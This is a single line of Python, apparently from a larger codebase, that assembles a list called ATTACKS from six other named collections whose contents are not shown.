ATTACKS = [*CELLS, *SHAPES, *ANSWERS, *KERNELS, *FILES, *PAGES]
